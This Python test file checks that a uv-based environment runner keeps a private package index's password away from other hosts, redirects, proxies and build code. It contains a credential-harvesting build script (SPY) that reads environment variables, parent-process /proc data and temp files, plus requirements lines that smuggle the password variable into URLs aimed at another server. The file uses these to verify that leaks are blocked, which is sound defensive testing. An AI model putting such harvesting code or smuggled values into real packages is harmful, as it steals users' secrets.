"""Who learns the login of a package index: its own host, and nobody else. Real uv, real HTTP servers."""

from __future__ import annotations

import sys
from collections.abc import AsyncIterator, Iterator
from functools import partial
from pathlib import Path
from urllib.parse import quote

import pytest
import pytest_asyncio

from fastflow_runner.environments.environments import (
    EnvironmentFailed,
    EnvironmentRequest,
    Environments,
    ReadyEnvironment,
)
from fastflow_runner.environments.store import process_place, requests_of
from fastflow_runner.environments.supply import ANY_SUPPLY, Supply
from fastflow_runner.environments.variables import access
from fastflow_runner.sandbox.process import ProcessSandboxes
from tests.packages import make_sdist, make_wheel
from tests.process.runner.environments.test_environments import said_by
from tests.support.folders import bundle_of
from tests.support.login_proxy import LoginProxy
from tests.support.package_index import PackageIndex

OWN_VERSION = f"{sys.version_info.major}.{sys.version_info.minor}"
LOGIN = "reader:hunter2"
SPY = """
import base64, glob, os
def read(path):
    try:
        with open(path, "rb") as file: return file.read(1_000_000)
    except OSError: return b""
def source():
    here, found, pid = os.getcwd(), [repr(dict(os.environ)).encode()], os.getpid()
    while pid > 1:  # this build, uv, the preparer, and the supervisor
        found += [read(path) for name in ("environ", "cmdline") for path in [f"/proc/{pid}/{name}"]]
        if os.readlink("/proc/self/exe") and b"supervisor" in found[-1]: break
        pid = int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
    tmp = os.environ.get("TMPDIR", "/tmp")
    store = os.environ["UV_CACHE_DIR"].split("/trees/")[0] if "UV_CACHE_DIR" in os.environ else "/store"
    for folder in (tmp, os.environ.get("FASTFLOW_WORK", tmp)):
        for path in glob.glob(folder + "/**/*", recursive=True, include_hidden=True):
            found.append(read(path))
    return "SEEN = %r" % base64.b64encode(b" ".join(found)).decode()
"""


class Workshop:
    """A private index, another server, and a runner with the login of the first one."""

    def __init__(self, root: Path, sandboxes: ProcessSandboxes) -> None:
        self.private = PackageIndex(_made(root / "private"), login=LOGIN)
        self.stranger = PackageIndex(_made(root / "stranger"))
        self.store = root / "store"
        self.sandboxes = sandboxes
        self.said: list[str] = []
        user, _, password = LOGIN.partition(":")
        self.environ = {
            "UV_INDEX": f"corp={self.private.address}/simple",
            "UV_INDEX_CORP_USERNAME": user,
            "UV_INDEX_CORP_PASSWORD": password,
            "UV_DEFAULT_INDEX": f"{self.stranger.address}/simple",
            "UV_HTTP_RETRIES": "0",
        }

    async def make(self, request: EnvironmentRequest, supply: Supply = ANY_SUPPLY, **environ: str) -> ReadyEnvironment:
        place = process_place(self.store)
        way = access({**self.environ, **environ}, place)
        environments = Environments(self.sandboxes, place, runner="test", access=way, supply=supply)
        return await environments.prepare(request, say=self.say)

    async def say(self, text: str) -> None:
        self.said += text.split("\n")

    def close(self) -> None:
        self.private.close()
        self.stranger.close()


def _made(directory: Path) -> Path:
    directory.mkdir()
    return directory


def asking(text: str) -> EnvironmentRequest:
    return EnvironmentRequest(OWN_VERSION, text.encode())


@pytest_asyncio.fixture
async def workshop(tmp_path: Path) -> AsyncIterator[Workshop]:
    sandboxes = ProcessSandboxes(tmp_path / "sandboxes")
    workshop = Workshop(tmp_path, sandboxes)
    yield workshop
    workshop.close()
    assert await sandboxes.held() == ()
    await sandboxes.close()


@pytest.fixture
def proxy() -> Iterator[LoginProxy]:
    proxy = LoginProxy("passer:by-hunter3")
    yield proxy
    proxy.close()


async def test_a_wheel_of_a_private_index_is_installed(workshop: Workshop) -> None:
    """With the runner's login, which the other index does not get."""
    make_wheel(workshop.private.directory, "mine", "1.0", "WORDS = 'mine'")
    make_wheel(workshop.stranger.directory, "theirs", "1.0", "WORDS = 'theirs'")
    made = await workshop.make(asking("mine\ntheirs"))
    assert said_by(made.python, "import mine, theirs; print(mine.WORDS, theirs.WORDS)") == "mine theirs"
    assert workshop.private.logins == {LOGIN}
    assert workshop.stranger.logins == set()


@pytest.mark.parametrize("package", ["wheel", "sdist"])
@pytest.mark.parametrize("login", ["token:", ":word", 'us er:p"w\\d@/:é'])
async def test_a_login_may_be_a_token_or_hold_anything(workshop: Workshop, login: str, package: str) -> None:
    """As a user without a password, a password without a user, and with signs that need quoting."""
    workshop.private.login = login
    if package == "wheel":
        make_wheel(workshop.private.directory, "mine", "1.0", "WORDS = 'mine'")
    else:
        make_sdist(workshop.private.directory, "mine", "1.0", "def source(): return 'WORDS = \"mine\"'")
    user, password = map(partial(quote, safe=""), login.split(":", 1))
    index = workshop.private.address.replace("//", f"//{user}:{password}@" if password else f"//{user}@")
    made = await workshop.make(asking("mine"), UV_INDEX=f"{index}/simple")
    assert said_by(made.python, "import mine; print(mine.WORDS)") == "mine"


STOLEN = [
    "--index-url {stranger}/${UV_INDEX_CORP_PASSWORD}/\nmine",
    "--find-links {stranger}/${UV_INDEX_CORP_PASSWORD}/\nmine",
    "mine @ {stranger}/${UV_INDEX_CORP_PASSWORD}/mine-1.0-py3-none-any.whl",
    "-r {stranger}/${UV_INDEX_CORP_PASSWORD}/r.txt",
    "--extra-index-url \\\n{stranger}/$\\\n{UV_INDEX_CORP_PASSWORD}/\nmine",
]


@pytest.mark.parametrize("text", STOLEN)
async def test_requirements_cannot_read_the_runners_variables(workshop: Workshop, text: str) -> None:
    """uv would replace ``${…}``. The run fails with the line and what to do; nobody is asked."""
    with pytest.raises(
        EnvironmentFailed, match=r"requirements.txt:\d: .*UV_INDEX_CORP_PASSWORD.* is not replaced here"
    ):
        await workshop.make(asking(text.replace("{stranger}", workshop.stranger.address)))
    assert workshop.stranger.asked == []


async def test_an_index_of_the_same_name_does_not_get_the_login(workshop: Workshop) -> None:
    """A project that calls a stranger's index ``corp`` gets no password for it: a login belongs to an address."""
    workshop.stranger.login = "nobody:knows"
    files = {
        "main.py": "",
        "pyproject.toml": "[project]\nname = 'p'\nversion = '1'\ndependencies = ['mine']\n"
        f"[[tool.uv.index]]\nname = 'corp'\nurl = '{workshop.stranger.address}/simple'\n",
    }
    (request,) = requests_of(OWN_VERSION, bundle_of(files))
    with pytest.raises(EnvironmentFailed, match="mine"):
        await workshop.make(request)
    assert workshop.stranger.asked
    assert workshop.stranger.logins == set()


@pytest.mark.parametrize("package", ["wheel", "sdist"])
async def test_a_redirect_to_another_host_carries_no_login(workshop: Workshop, package: str) -> None:
    """The files of many indexes lie elsewhere. That host is asked, without the login."""
    workshop.private.elsewhere = workshop.stranger.address
    for directory in (workshop.private.directory, workshop.stranger.directory):
        if package == "wheel":
            make_wheel(directory, "mine", "1.0", "WORDS = 'mine'")
        else:
            make_sdist(directory, "mine", "1.0", "def source(): return 'WORDS = \"mine\"'")
    made = await workshop.make(asking("mine"))
    assert said_by(made.python, "import mine; print(mine.WORDS)") == "mine"
    assert any(each.path.startswith("/files/") for each in workshop.stranger.asked)
    assert workshop.private.logins == {LOGIN}
    assert workshop.stranger.logins == set()


@pytest.mark.parametrize("how", ["requirements", "project", "archive"])
async def test_the_code_of_a_build_does_not_see_the_login(workshop: Workshop, how: str) -> None:
    """It is downloaded with the login and built without: not in variables, files, command lines of its parents."""
    make_sdist(workshop.private.directory, "spy", "1.0", SPY)
    private = workshop.private.address
    texts = {
        "requirements": {"requirements.txt": "spy"},
        "archive": {"requirements.txt": f"spy @ {private}/files/spy-1.0.tar.gz"},
        "project": {
            "pyproject.toml": "[project]\nname = 'p'\nversion = '1'\nrequires-python = '>=3.11'\n"
            f"dependencies = ['spy']\n[[tool.uv.index]]\nname = 'corp'\nurl = '{private}/simple'\n"
        },
    }
    (request,) = requests_of(OWN_VERSION, bundle_of({"main.py": "", **texts[how]}))
    made = await workshop.make(request)
    seen = said_by(made.python, "import base64, spy; print(base64.b64decode(spy.SEEN).decode('latin-1'))")
    assert "UV_" in seen
    assert "hunter2" not in seen
    assert "cmVhZGVyOmh1bnRlcjI" not in seen  # the header's form
    assert workshop.private.logins == {LOGIN}
    assert workshop.stranger.logins == set()


@pytest.mark.parametrize("package", ["wheel", "sdist"])
async def test_a_proxy_with_a_login_is_used_without_telling_it(
    workshop: Workshop, proxy: LoginProxy, package: str
) -> None:
    """Neither uv nor a build has the login of the proxy; all they ask goes through it."""
    make_wheel(workshop.private.directory, "mine", "1.0", "SEEN = ''")
    make_sdist(workshop.private.directory, "spy", "1.0", SPY)
    name = {"wheel": "mine", "sdist": "spy"}[package]
    made = await workshop.make(
        asking(name),
        HTTP_PROXY=f"http://passer:by-hunter3@127.0.0.1:{proxy.port}",
        UV_INDEX=workshop.environ["UV_INDEX"].replace("127.0.0.1", "localhost"),
    )
    seen = said_by(made.python, f"import base64, {name}; print(base64.b64decode({name}.SEEN).decode('latin-1'))")
    assert "hunter3" not in seen
    assert proxy.refused == 0
    assert any("/simple/" in path for path in proxy.passed)
